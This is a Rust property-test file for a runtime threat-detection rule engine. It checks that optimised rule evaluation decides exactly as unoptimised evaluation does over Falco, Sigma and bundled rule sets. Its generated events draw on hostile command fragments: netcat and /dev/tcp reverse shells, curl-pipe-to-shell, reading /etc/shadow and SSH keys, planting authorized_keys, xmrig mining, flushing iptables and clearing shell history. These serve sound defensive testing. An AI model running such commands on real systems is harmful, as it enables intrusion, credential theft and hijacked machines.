//! The evaluation plans (conditions specialised per event kind, program-name
//! and literal prefilters, checks shared between rules) decide exactly what
//! the conditions as compiled decide, on every event: checked over the
//! benchmark and bundled rule files and thousands of generated events.

use std::path::Path;

use proptest::prelude::*;
use vigil_event::packed::{BatchView, encode_batch};
use vigil_event::{Event, EventKind};
use vigil_rulelang::fields::EventCtx;
use vigil_rulelang::testing::{ancestor, exec, in_container, with_parents};
use vigil_rulelang::{RuleSet, SourceFile};

fn rule_files() -> Vec<RuleSet> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let read =
        |p: &Path| SourceFile::new(p.file_name().unwrap().to_string_lossy(), std::fs::read_to_string(p).unwrap());
    let mut bundled: Vec<_> = std::fs::read_dir(root.join("rules/declarative/rules"))
        .map(|d| {
            d.map_while(Result::ok).map(|e| e.path()).filter(|p| p.extension().is_some_and(|x| x == "yaml")).collect()
        })
        .unwrap_or_default();
    bundled.sort();
    let sets = [
        vec![root.join("engine/benches/rule-files/falco-100.yaml")],
        vec![root.join("engine/benches/rule-files/sigma-120.yaml")],
        bundled,
    ];
    sets.iter()
        .filter(|s| !s.is_empty())
        .map(|s| RuleSet::load(&s.iter().map(|p| read(p)).collect::<Vec<_>>()).0)
        .collect()
}

const WORDS: &[&str] = &[
    "sh",
    "bash",
    "-c",
    "-i",
    "curl",
    "wget",
    "-O-",
    "|",
    "sh",
    "nc",
    "-e",
    "/bin/sh",
    "/dev/tcp/10.0.0.1/4444",
    "cat",
    "/etc/shadow",
    "find",
    "/",
    "-perm",
    "-4000",
    "id_rsa",
    "chmod",
    "u+s",
    "+x",
    "/tmp/x",
    "xmrig",
    "stratum+tcp://p:3333",
    "base64",
    "-d",
    "python3",
    "-c",
    "import socket",
    "echo",
    ">>",
    "~/.ssh/authorized_keys",
    ".bashrc",
    "crontab",
    "-",
    "iptables",
    "-F",
    "history",
    "-c",
    "kubectl",
    "get",
    "secrets",
    "npm",
    "run",
    "node",
    "java",
    "-jar",
    "ls",
    "-la",
    "/var/log/syslog",
    "rm",
    "-rf",
    "nsenter",
    "-t",
    "1",
    "mount",
    "/dev/sda1",
    "/mnt",
    "tcpdump",
    "SELECT",
    "ENC",
];
const EXES: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/curl",
    "/bin/nc",
    "/usr/bin/python3",
    "/tmp/xmrig",
    "/dev/shm/x",
    "/usr/bin/find",
    "/bin/cat",
    "/usr/sbin/iptables",
    "/usr/bin/kubectl",
    "/bin/busybox",
    "/usr/bin/nsenter",
    "/usr/local/bin/node",
    "/home/u/.cache/x",
    "/usr/bin/Curl",
    "/bin/ls",
];
const PARENTS: &[&str] = &[
    "/bin/bash",
    "/usr/sbin/nginx",
    "/usr/bin/containerd-shim-runc-v2",
    "/usr/sbin/cron",
    "/usr/bin/java",
    "/sbin/init",
    "/usr/bin/runc",
];

fn event(exe: usize, words: Vec<usize>, parents: Vec<usize>, container: bool, kind: u8, uid: u32) -> Event {
    let exe = EXES[exe % EXES.len()];
    let mut argv = vec![exe.rsplit('/').next().unwrap()];
    argv.extend(words.iter().map(|w| WORDS[w % WORDS.len()]));
    let mut e = exec(exe, &argv);
    e.kind = [EventKind::ProcessExec, EventKind::ProcessFork, EventKind::ProcessExit][kind as usize % 3];
    e.process.as_mut().unwrap().uid = uid;
    let chain = parents.iter().enumerate().map(|(i, p)| {
        let exe = PARENTS[p % PARENTS.len()];
        ancestor(900 - i as u32, exe, &[exe.rsplit('/').next().unwrap(), "-c", "npm run start"])
    });
    let e = with_parents(e, chain.collect());
    if container { in_container(e, "web", "registry.local/shop/web:1.4", Some(("web-1", "shop"))) } else { e }
}

fn agree(sets: &[RuleSet], e: &Event) {
    // A context used for another event first, then reset (as the component
    // reuses one per batch), must decide as a fresh one does.
    let other = in_container(
        with_parents(
            exec("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1", "1"]),
            vec![ancestor(9, "/bin/sh", &["sh"])],
        ),
        "web",
        "registry.local/web:1",
        Some(("web-1", "shop")),
    );
    let mut bytes = Vec::new();
    encode_batch([e, &other], &mut bytes);
    let batch = BatchView::new(&bytes).unwrap();
    for set in sets {
        let (mut planned, mut unplanned, mut reused) = (Vec::new(), Vec::new(), Vec::new());
        set.matching(&EventCtx::new(batch.get(0).unwrap()), &mut planned);
        set.matching_unplanned(&EventCtx::new(batch.get(0).unwrap()), &mut unplanned);
        let mut ctx = EventCtx::new(batch.get(1).unwrap());
        set.matching(&ctx, &mut Vec::new());
        let _ = ctx.get_lower(&vigil_rulelang::fields::Field::ArgvLine);
        ctx.reset(batch.get(0).unwrap());
        set.matching(&ctx, &mut reused);
        assert_eq!(planned, unplanned, "{e:?}");
        assert_eq!(reused, planned, "a reset context decides as a fresh one: {e:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3000))]
    #[test]
    fn planned_and_unplanned_evaluation_agree(
        exe in 0usize..100,
        words in proptest::collection::vec(0usize..100, 0..8),
        parents in proptest::collection::vec(0usize..100, 0..4),
        container: bool,
        kind in 0u8..3,
        uid in prop_oneof![Just(0u32), Just(1000u32)],
    ) {
        thread_local! { static SETS: Vec<RuleSet> = rule_files(); }
        SETS.with(|sets| agree(sets, &event(exe, words, parents, container, kind, uid)));
    }
}

#[test]
fn the_prefilters_let_matching_events_through() {
    // Events every benchmark rule set has a rule for: the planned path must see them.
    let sets = rule_files();
    let hits = |e: &Event| {
        let mut bytes = Vec::new();
        encode_batch([e], &mut bytes);
        let batch = BatchView::new(&bytes).unwrap();
        sets.iter()
            .map(|s| {
                let mut out = Vec::new();
                s.matching(&EventCtx::new(batch.get(0).unwrap()), &mut out);
                out.len()
            })
            .collect::<Vec<_>>()
    };
    let nc = exec("/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]);
    assert!(hits(&nc).iter().all(|&n| n > 0), "{:?}", hits(&nc));
}

#[test]
#[ignore = "prints the rules no prefilter applies to: cargo test -p vigil-rulelang --test plans -- --ignored --nocapture"]
fn print_unfiltered_rules() {
    for set in rule_files() {
        for (name, node) in set.exec_unfiltered() {
            println!("{name}: {}", &node[..node.len().min(300)]);
        }
        println!("---");
    }
}
